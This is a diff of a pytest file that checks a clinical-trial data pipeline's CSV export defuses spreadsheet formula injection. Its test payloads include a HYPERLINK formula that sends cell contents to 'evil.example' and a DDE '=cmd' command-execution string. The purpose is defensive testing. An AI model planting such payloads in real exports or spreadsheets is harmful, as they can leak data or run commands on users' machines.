@@ -10,27 +10,27 @@ from __future__ import annotations
 
 import csv
 import io
-import re
 
 import pandas as pd
 import pytest
 
 from feasibility.io import write_csv
-from feasibility.validation import Failure, failures_frame
+from feasibility.pipeline import failures_frame
+from feasibility.redcap.messages import Failure
 
+import records_helpers as rh
 from projectcopy import copy_project, run_snakemake
-from test_validation import edit_cell
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-PAYLOADS = {   # (file, record, field, row) -> text typed into a free-text field
-    ("adverse_events.csv", "PP23", "ae_description", 0): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-    ("status_changes.csv", "PP03", "sc_details", 0): "+1+1",
-    ("status_changes.csv", "PP03", "sc_details", 1): "@SUM(A1)",
-    ("placements.csv", "PP01", "plc_role", 0): "-2+3",
-    ("questionnaires_week14.csv", "PP04", "emp_job_title", 0): "=cmd|' /C calc'!A0",
+PAYLOADS = {   # (participant, event, field, repeating instrument, instance) -> text typed into a free-text field
+    ("PP23", "intervention", "ae_description", "adverse_event", "1"): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    ("PP03", "intervention", "sc_details", "status_change", "1"): "+1+1",
+    ("PP03", "intervention", "sc_details", "status_change", "2"): "@SUM(A1)",
+    ("PP08", "intervention", "plc_role", "", ""): "-2+3",
+    ("PP05", "intervention", "sc_details", "status_change", "1"): "=cmd|' /C calc'!A0",
 }
-# a record ID may start with '-' (pattern [A-Za-z0-9_-]); PP26 appears in a scoring log
-RENAMED = ("PP26", "-PP26")
+# a record ID may start with '-' (REDCap allows letters, digits, '-' and '_'); PP26's record S096
+RENAMED = ("S096", "-S096")
 
 
 def _is_number(cell: str) -> bool:
@@ -64,8 +64,8 @@ def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
 
 def test_a_failing_cell_written_as_csv_is_neutralised(tmp_path):
     # a formula typed into a coded field fails validation; its value in a CSV of failures is inert
-    failure = Failure("questionnaires_baseline.csv", 5, "PP04", "baseline_arm_1", "eq5d_vas",
-                      "=cmd|' /C calc'!A0", "not a number")
+    failure = Failure("records.csv", 5, "S041", "baseline_arm_1", "", "eq5d_vas", "=cmd|' /C calc'!A0",
+                      "not a whole number")
     write_csv(tmp_path / "failures.csv", failures_frame([failure]))
     text = (tmp_path / "failures.csv").read_text(encoding="utf-8")
     assert unsafe_cells(text) == []
@@ -78,19 +78,19 @@ def test_pipeline_with_formulas_in_free_text_writes_only_safe_csvs(tmp_path):
     proj.mkdir()
     copy_project(proj)
     raw = proj / "data" / "raw"
-    for (file, record, field, row), text in PAYLOADS.items():
-        edit_cell(raw, file, record, field, text, row=row)
+    for (who, event, field, instrument, instance), text in PAYLOADS.items():
+        rh.set_value(raw, who, event, field, text, instrument=instrument, instance=instance)
     old, new = RENAMED
-    for path in raw.glob("*.csv"):
-        path.write_text(re.sub(rf"(?<![\w-]){old}(?!\w)", new, path.read_text(encoding="utf-8")),
-                        encoding="utf-8")
+    header, body = rh.read_csv(raw / "records.csv")
+    assert any(r[0] == old for r in body)
+    rh.write_csv(raw / "records.csv", header, [[new if r[0] == old else r[0], *r[1:]] for r in body])
 
     res = run_snakemake(proj)
     assert res.returncode == 0, (res.stdout + res.stderr)[-3000:]
 
     # validation accepted the free text and kept it verbatim
-    ae = pd.read_parquet(proj / "results" / "validated" / "adverse_events.parquet")
-    assert PAYLOADS[("adverse_events.csv", "PP23", "ae_description", 0)] in ae["ae_description"].tolist()
+    ae = pd.read_parquet(proj / "results" / "validated" / "adverse_event.parquet")
+    assert PAYLOADS[("PP23", "intervention", "ae_description", "adverse_event", "1")] in ae["ae_description"].tolist()
 
     written = sorted((proj / "results").rglob("*.csv"))
     assert len(written) >= 10
